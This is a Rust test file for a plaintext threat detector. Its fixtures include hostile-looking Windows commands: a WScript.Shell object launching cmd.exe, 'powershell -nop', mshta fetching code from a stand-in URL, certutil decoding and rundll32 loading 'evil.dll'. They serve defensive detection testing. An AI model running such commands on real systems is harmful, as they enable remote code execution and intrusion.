use kovacs::detectors::plain::hunt_plaintext_threats;

const SAMPLE: &str = "Set x = CreateObject(\"WScript.Shell\")\n  x.Run \"cmd.exe /c calc\"\nhello\r\n\tpowershell -nop\nSet x = CreateObject(\"WScript.Shell\")\n";

#[test]
fn rescanning_findings_gives_them_back() {
    let found = hunt_plaintext_threats(SAMPLE);
    assert_eq!(found.len(), 3);
    assert_eq!(hunt_plaintext_threats(&found.join("\n")), found);
    assert!(hunt_plaintext_threats(&Vec::<String>::new().join("\n")).is_empty());
}

#[test]
fn crlf_endings_and_leading_blanks_change_nothing() {
    let found = hunt_plaintext_threats(SAMPLE);
    assert_eq!(hunt_plaintext_threats(&SAMPLE.replace("\n", "\r\n")), found);
    assert_eq!(hunt_plaintext_threats(&format!(" \t{}", SAMPLE)), found);
    assert!(hunt_plaintext_threats(" \t").is_empty());
}

#[test]
fn joined_texts_merge_first_occurrences() {
    let first = "mshta http://x.io/a\nplain\ncertutil -decode a b";
    let second = "certutil -decode a b\nrundll32 evil.dll,Go";
    let mut expected: Vec<String> = Vec::new();
    for x in hunt_plaintext_threats(first).into_iter().chain(hunt_plaintext_threats(second)) {
        if !expected.contains(&x) {
            expected.push(x);
        }
    }
    assert_eq!(hunt_plaintext_threats(&format!("{}\n{}", first, second)), expected);
    assert_eq!(expected.len(), 3);
}
